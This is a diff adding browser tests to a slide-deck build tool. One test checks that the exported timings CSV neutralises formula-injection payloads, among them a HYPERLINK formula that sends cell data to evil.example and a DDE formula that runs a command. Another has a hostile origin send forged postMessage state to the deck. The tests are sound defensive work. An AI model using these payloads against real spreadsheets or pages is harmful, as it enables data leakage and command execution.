@@ -234,3 +234,61 @@ def test_the_last_date_a_zip_can_hold_builds(tmp_path):
     root = project(tmp_path / "p", FRONT + STAGE)
     result = cli(root, "build", "--no-pdf", env={"SOURCE_DATE_EPOCH": "4354819199"})
     assert result.returncode == 0, result.stderr
+
+
+# ---------------------------------------------------------------- the deck in a browser
+
+FORMULAS = ['=HYPERLINK("https://evil.example/?leak="&A2,"Open")', "@SUM(1+1)*cmd|' /C calc'!A0", "+1+1", "-1-1"]
+
+
+def test_saved_timings_cannot_run_as_spreadsheet_formulas(browser, tmp_path):
+    stages = "".join(f"## {title} {{time=1m}}\n\nΚείμενο.\n\n::: notes\nΑφήγηση.\n:::\n\n" for title in FORMULAS)
+    built(tmp_path, FRONT + stages)
+    ctx = browser.new_context(viewport={"width": 1280, "height": 800})
+    try:
+        deck = ctx.new_page()
+        deck.goto((tmp_path / "site" / "el" / "case" / "index.html").as_uri() + "#1")
+        deck.wait_for_selector("html.js", state="attached")
+        with ctx.expect_page() as popup:
+            deck.keyboard.press("p")
+        pv = popup.value
+        pv.wait_for_selector(".pv")
+        deck.keyboard.press("End")
+        report = pv.locator(".pv__report")
+        report.wait_for(state="visible")
+        with pv.expect_download() as info:
+            report.locator("button").click()
+        text = Path(info.value.path()).read_text(encoding="utf-8-sig")
+    finally:
+        ctx.close()
+    titles = [line.split(",", 3)[3].rsplit(",", 2)[0] for line in text.splitlines()[1:] if line.split(",")[2]]
+    assert titles == ['"\'' + t.replace('"', '""') + '"' for t in FORMULAS]
+
+
+def test_the_deck_talks_only_to_windows_of_its_own_origin(browser, tmp_path):
+    built(tmp_path, FRONT + STAGE * 3)
+    site = tmp_path / "site"
+    ctx = browser.new_context()
+    try:
+        def serve(route):
+            path = site / route.request.url.split("://deck.test/", 1)[1].split("?")[0].split("#")[0]
+            route.fulfill(body=path.read_bytes(), content_type="text/html" if path.suffix == ".html" else
+                          "text/css" if path.suffix == ".css" else "text/javascript")
+        ctx.route("http://deck.test/**", serve)
+        ctx.route("http://evil.test/**", lambda route: route.fulfill(body="<!doctype html><title>x</title>",
+                                                                     content_type="text/html"))
+        evil = ctx.new_page()
+        evil.goto("http://evil.test/")
+        evil.evaluate("""() => { window.got = [];
+            window.addEventListener('message', e => window.got.push(JSON.stringify(e.data))); }""")
+        with ctx.expect_page() as popup:
+            evil.evaluate("() => { window.deck = window.open('http://deck.test/el/case/index.html?presenter#1'); }")
+        deck = popup.value
+        deck.wait_for_selector(".pv")
+        evil.evaluate("""() => window.deck.postMessage({microlearn: 'el/case', type: 'state', presenter: false,
+            state: {pos: {slide: 2, rev: 1e15}, black: {on: true, rev: 1e15}}}, '*')""")
+        deck.wait_for_timeout(300)
+        assert deck.evaluate("location.hash") == "#1", "a message from another origin moved the deck"
+        assert evil.evaluate("window.got") == [], "the deck sent its state to another origin"
+    finally:
+        ctx.close()
